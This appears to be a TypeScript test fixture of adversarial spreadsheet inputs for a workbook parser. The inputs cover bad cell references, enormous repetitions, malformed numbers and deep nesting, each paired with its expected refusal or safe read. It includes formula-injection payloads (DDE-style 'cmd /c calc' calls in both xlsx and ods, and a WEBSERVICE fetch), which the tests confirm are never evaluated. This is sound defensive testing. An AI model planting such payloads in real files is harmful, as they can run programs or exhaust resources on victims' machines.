/** Sheets whose cells are nowhere, twice, without end or without sense; formulas that would call, reckon or fetch. */
import { type Attack, type AttackOutcome, refused } from "./attack.ts";
import { odsAttack, rowOf, rowsOf, soundCells, soundOdsRow, soundRow, xlsxAttack } from "./sound-files.ts";
import type { XlsxParts } from "../workbook/xlsx-file.ts";

const xlsx = (name: string, parts: () => Partial<XlsxParts>, outcome: AttackOutcome): Attack => ({
  name,
  file: "bieu.xlsx",
  draw: () => xlsxAttack(parts()),
  outcome,
});
const ods = (name: string, rows: () => string, outcome: AttackOutcome): Attack => ({
  name,
  file: "bieu.ods",
  draw: () => odsAttack({ rows: rows() }),
  outcome,
});
/** The refusal of a cell of the only sheet. */
const cellRefused = (cell: string, value?: string): AttackOutcome =>
  refused("cellNotReadable", { sheet: "Biểu 1", cell, ...(value === undefined ? {} : { value }) });
const number = (cell: string, value: string): string => `<c r="${cell}"><v>${value}</v></c>`;
const merges = (ranges: readonly string[]): Partial<XlsxParts> => ({
  sheets: [
    `<sheetData>${soundRow}</sheetData><mergeCells>${ranges.map((range) => `<mergeCell ref="${range}"/>`).join("")}</mergeCells>`,
  ],
});
const odsCell = (attributes: string, inside = ""): string =>
  `<table:table-row><table:table-cell ${attributes}>${inside}</table:table-cell></table:table-row>`;
const odsFormula = (formula: string): string =>
  soundOdsRow + odsCell(`table:formula="${formula}" office:value-type="float" office:value="5"`);
const billion = "1000000000";
const many = (count: number, draw: (at: number) => string): string =>
  Array.from({ length: count }, (_, at) => draw(at)).join("");

/** The attacks. */
export const sheetAttacks: readonly Attack[] = [
  xlsx("a cell in the last corner", () => rowsOf(`${soundRow}<row r="1048576"><c r="XFD1048576"><v>1</v></c></row>`), {
    read: { ...soundCells, XFD1048576: 1 },
  }),
  xlsx("a column behind the last", () => rowOf(number("XFE1", "1")), cellRefused("XFE1")),
  xlsx("a row behind the last", () => rowsOf('<row r="1048577"/>'), cellRefused("1048577")),
  xlsx("a row below zero", () => rowsOf('<row r="-1"/>'), cellRefused("-1")),
  xlsx("a row of 400 digits", () => rowsOf(`<row r="${"9".repeat(400)}"/>`), cellRefused("9".repeat(400))),
  xlsx("a reference that is none", () => rowOf(number("A0", "1")), cellRefused("A0")),
  xlsx("a reference of 100.000 letters", () => rowOf(number("A".repeat(100_000), "1")), refused("cellNotReadable")),
  xlsx("a cell of another row", () => rowOf(number("A7", "1")), cellRefused("A7")),
  xlsx("a cell twice, with two figures", () => rowOf(number("A1", "1") + number("A1", "2")), cellRefused("A1")),
  xlsx("a row twice, with two figures", () => rowsOf(soundRow + soundRow), cellRefused("1")),
  xlsx("a cell outside of all rows", () => rowsOf(number("A1", "1")), cellRefused("A1")),
  xlsx(
    "twenty sheets with a cell in their last row",
    () => ({
      sheets: Array.from({ length: 20 }, () => '<sheetData><row r="1048576"><c><v>1</v></c></row></sheetData>'),
    }),
    refused("workbookBeyondLimit", { part: "Biểu 11" }),
  ),
  xlsx("a text of a number that is too high", () => rowOf('<c r="A1" t="s"><v>7</v></c>'), cellRefused("A1", "7")),
  xlsx("a text of a negative number", () => rowOf('<c r="A1" t="s"><v>-1</v></c>'), cellRefused("A1", "-1")),
  xlsx("a text of a number with a fraction", () => rowOf('<c r="A1" t="s"><v>0.5</v></c>'), cellRefused("A1", "0.5")),
  xlsx("a number beyond all numbers", () => rowOf(number("A1", "1E400")), cellRefused("A1", "1E400")),
  xlsx("a number that is none", () => rowOf(number("A1", "NaN")), cellRefused("A1", "NaN")),
  xlsx("a number without end", () => rowOf(number("A1", "INF")), cellRefused("A1", "INF")),
  xlsx("a number in hexadecimal", () => rowOf(number("A1", "0x1F")), cellRefused("A1", "0x1F")),
  xlsx("a number of 500.000 digits", () => rowOf(number("A1", "9".repeat(500_000))), cellRefused("A1", "9".repeat(40))),
  xlsx("the largest number there is", () => rowOf(number("A1", "1.7976931348623157E308")), {
    read: { A1: Number.MAX_VALUE },
  }),
  xlsx("a date before all dates", () => ({ ...rowOf('<c r="A1" t="d"><v>0000-00-00</v></c>') }), {
    read: { A1: "0000-00-00" },
  }),
  xlsx("a style that is not there", () => rowOf('<c r="A1" s="99999"><v>1</v></c><c r="B1" s="-3"><v>2</v></c>'), {
    read: { A1: 1, B1: 2 },
  }),
  xlsx(
    "a formula that calls a program, never evaluated",
    () => rowOf(`<c r="A1"><f>cmd|'/c calc'!A1</f><v>5</v></c>`),
    {
      read: { A1: 5 },
    },
  ),
  xlsx(
    "a formula that fetches a page, never evaluated and without a figure",
    () => rowOf('<c r="A1"><f>WEBSERVICE("https://example.com/"&amp;B1)</f></c>'),
    { read: { A1: { kind: "error", code: "noCachedValue" } } },
  ),
  xlsx("a formula of itself", () => rowOf('<c r="A1"><f>A1+A1</f><v>7</v></c>'), { read: { A1: 7 } }),
  xlsx("a formula of 300.000 brackets", () => rowOf(`<c r="A1"><f>${"(".repeat(300_000)}</f><v>7</v></c>`), {
    read: { A1: 7 },
  }),
  xlsx(
    "a text of 20.000 accents to be put in order",
    () => rowOf(`<c r="A1" t="inlineStr"><is><t>a${"\u0301\u0323".repeat(10_000)}</t></is></c>`),
    {
      read: { A1: `a${"\u0301\u0323".repeat(15)}`.normalize("NFC") },
    },
  ),
  xlsx("half a sign, escaped", () => rowOf('<c r="A1" t="inlineStr"><is><t>a_xD800_b</t></is></c>'), {
    read: { A1: "a\uFFFDb" },
  }),
  xlsx(
    "150.000 merged ranges",
    () => merges(Array.from({ length: 150_000 }, (_, at) => `A${at * 2 + 1}:B${at * 2 + 1}`)),
    refused("workbookBeyondLimit", { part: "xl/worksheets/sheet1.xml", limit: "100000" }),
  ),
  xlsx(
    "20.000 merged rows as wide as a sheet can be",
    () => merges(Array.from({ length: 20_000 }, (_, at) => `A${at + 2}:XFD${at + 2}`)),
    { read: soundCells },
  ),
  xlsx("merged ranges that lie on one another", () => merges(["A1:C3", "B2:D4", "A1:XFD1048576", "C1"]), {
    read: { A1: "Kế hoạch", B1: null },
  }),
  xlsx("a merged range that is none", () => merges(["B2:A1"]), cellRefused("B2:A1")),
  xlsx(
    "all columns hidden five thousand times",
    () => ({
      sheets: [
        `<cols>${'<col min="1" max="16384" hidden="1"/>'.repeat(5000)}</cols><sheetData>${soundRow}</sheetData>`,
      ],
    }),
    { read: soundCells },
  ),
  ods(
    "a million rows of a thousand columns in one cell",
    () =>
      `<table:table-row table:number-rows-repeated="1048576"><table:table-cell table:number-columns-repeated="1000" office:value-type="float" office:value="1"/></table:table-row>`,
    refused("workbookBeyondLimit", { part: "content.xml" }),
  ),
  ods(
    "a cell a billion times",
    () => odsCell(`table:number-columns-repeated="${billion}" office:value-type="float" office:value="1"`),
    refused("workbookBeyondLimit", { limit: "16384" }),
  ),
  ods(
    "a row a billion times",
    () =>
      `<table:table-row table:number-rows-repeated="${billion}"><table:table-cell office:value-type="float" office:value="1"/></table:table-row>`,
    refused("workbookBeyondLimit", { limit: "1048576" }),
  ),
  ods(
    "empty rows a billion times, as the end of a sheet",
    () =>
      `${soundOdsRow}<table:table-row table:number-rows-repeated="${billion}"><table:table-cell table:number-columns-repeated="${billion}"/></table:table-row>`,
    { read: soundCells },
  ),
  ods(
    "a count of cells that is none",
    () => soundOdsRow.replace("<table:table-cell", '<table:table-cell table:number-columns-repeated="-5"'),
    { read: soundCells },
  ),
  ods(
    "thirty tables of a million hidden rows",
    () =>
      `${soundOdsRow}</table:table>${`<table:table><table:table-row table:visibility="collapse" table:number-rows-repeated="1048575"/>${soundOdsRow}</table:table>`.repeat(30)}<table:table>`,
    refused("workbookBeyondLimit"),
  ),
  ods(
    "a text of 30.000 letters in a million cells",
    () =>
      `<table:table-row table:number-rows-repeated="10000"><table:table-cell table:number-columns-repeated="100" office:value-type="string"><text:p>${"Vốn ".repeat(7500)}</text:p></table:table-cell></table:table-row>`,
    refused("workbookBeyondLimit", { part: "Biểu 1", limit: "60000000" }),
  ),
  ods(
    "merged cells a thousand times a thousand",
    () =>
      `<table:table-row table:number-rows-repeated="1000">${'<table:table-cell table:number-rows-spanned="1000000"/>'.repeat(1000)}<table:table-cell office:value-type="float" office:value="1"/></table:table-row>`,
    refused("workbookBeyondLimit", { limit: "100000" }),
  ),
  ods(
    "a number that is none, in a table of LibreOffice",
    () => odsCell('office:value-type="float" office:value="NaN"'),
    cellRefused("A1", "NaN"),
  ),
  ods(
    "a number of 500.000 digits and a letter",
    () => odsCell(`office:value-type="float" office:value="${"1".repeat(500_000)}x"`),
    cellRefused("A1", "1".repeat(40)),
  ),
  ods(
    "a day that is none",
    () => soundOdsRow + odsCell('office:value-type="date" office:date-value="2025-02-30"'),
    cellRefused("A2", "2025-02-30"),
  ),
  ods("a formula of 50.000 brackets that never close", () => odsFormula(`of:=#${"[".repeat(50_000)}`), {
    read: soundCells,
  }),
  ods("a formula of 50.000 colons", () => odsFormula(`of:=[${":".repeat(50_000)}]`), { read: soundCells }),
  ods("a formula of 100.001 quotes", () => odsFormula(`of:=${"&quot;".repeat(100_001)}`), { read: soundCells }),
  ods("a formula of another file", () => odsFormula("of:=['file:///C:/kh.ods'#$Sheet1.A1]"), refused("externalLinks")),
  ods(
    "a formula of LibreOffice that calls a program, never evaluated",
    () => odsFormula("of:=DDE(&quot;cmd&quot;;&quot;/c calc&quot;;&quot;x&quot;)"),
    { read: { ...soundCells, A2: 5 } },
  ),
  ods(
    "tables inside tables inside cells",
    () =>
      soundOdsRow +
      odsCell(
        "",
        "<table:table><table:table-row><table:table-cell>".repeat(60) +
          "</table:table-cell></table:table-row></table:table>".repeat(60),
      ),
    { read: soundCells },
  ),
  ods(
    "cells of LibreOffice outside of rows outside of tables",
    () =>
      `</table:table><table:table-cell office:value-type="float" office:value="1"/><table:table>${many(3, () => "<table:table-cell/>")}`,
    { read: { A1: null } },
  ),
];
